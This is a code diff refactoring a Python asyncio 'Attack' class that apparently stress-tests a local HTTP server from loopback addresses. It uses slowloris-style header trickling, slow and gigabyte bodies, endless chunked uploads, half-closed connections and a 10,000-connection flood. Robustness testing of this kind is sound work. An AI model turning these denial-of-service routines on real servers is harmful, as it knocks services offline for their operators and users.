@@ -60,19 +60,16 @@ class Attack:
         """Up to the end of the connection, or of the attack."""
         return await asyncio.wait_for(reader.read(), max(0, self.end - time.monotonic()))
 
-    async def trickle(self, _, writer):
-        writer.write(HEAD)
-        while self.goes_on():
-            writer.write(b"X-A: b\r\n")
-            await writer.drain()
-            await asyncio.sleep(1)
+    def sending(self, beginning, piece, pause=0):
+        """That piece again and again behind the head of a request."""
+        async def send(_, writer):
+            writer.write(HEAD + beginning)
+            while self.goes_on():
+                writer.write(piece)
+                await writer.drain()
+                await asyncio.sleep(pause)
 
-    async def trickle_body(self, _, writer):
-        writer.write(HEAD + b"Content-Length: 1000000\r\n\r\n" + bytes(900_000))
-        while self.goes_on():
-            writer.write(b"x")
-            await writer.drain()
-            await asyncio.sleep(1)
+        return send
 
     async def be_silent(self, reader, _):
         if await self.read(reader) == b"":
@@ -82,18 +79,6 @@ class Attack:
         writer.write(HEAD)
         writer.write_eof()
         await self.read(reader)
-
-    async def send_gigabyte(self, _, writer):
-        writer.write(HEAD + b"Content-Length: 1073741824\r\n\r\n")
-        for _ in range(1024):
-            writer.write(bytes(1024 * 1024))
-            await writer.drain()
-
-    async def send_chunks(self, _, writer):
-        writer.write(HEAD + b"Transfer-Encoding: chunked\r\n\r\n")
-        while self.goes_on():
-            writer.write(b"100000\r\n" + bytes(1024 * 1024) + b"\r\n")
-            await writer.drain()
 
     async def flood(self, sources):
         """10,000 connections, evenly."""
@@ -124,11 +109,15 @@ class Attack:
             writer.transport.abort()
 
     async def all_at_once(self):
-        slow = [self.again_and_again(f"127.0.1.{number % 20 + 1}", self.trickle) for number in range(500)]
-        bodies = [self.again_and_again(f"127.0.2.{number}", self.trickle_body) for number in range(1, 31)]
+        trickle = self.sending(b"", b"X-A: b\r\n", 1)
+        trickle_body = self.sending(b"Content-Length: 1000000\r\n\r\n" + bytes(900_000), b"x", 1)
+        gigabyte = self.sending(b"Content-Length: 1073741824\r\n\r\n", bytes(1024 * 1024))
+        chunks = self.sending(b"Transfer-Encoding: chunked\r\n\r\n", b"100000\r\n" + bytes(1024 * 1024) + b"\r\n")
+        slow = [self.again_and_again(f"127.0.1.{number % 20 + 1}", trickle) for number in range(500)]
+        bodies = [self.again_and_again(f"127.0.2.{number}", trickle_body) for number in range(1, 31)]
         silent = [self.again_and_again(f"127.0.4.{number % 3 + 1}", self.be_silent) for number in range(60)]
         halves = [self.again_and_again(f"127.0.5.{number % 3 + 1}", self.half_close) for number in range(60)]
-        large = [self.again_and_again("127.0.6.1", self.send_gigabyte), self.again_and_again("127.0.6.2", self.send_chunks)]
+        large = [self.again_and_again("127.0.6.1", gigabyte), self.again_and_again("127.0.6.2", chunks)]
         flood = self.flood(itertools.cycle(f"127.0.7.{number}" for number in range(1, 11)))
         await asyncio.gather(self.wait(), flood, *slow, *bodies, *silent, *halves, *large)
 
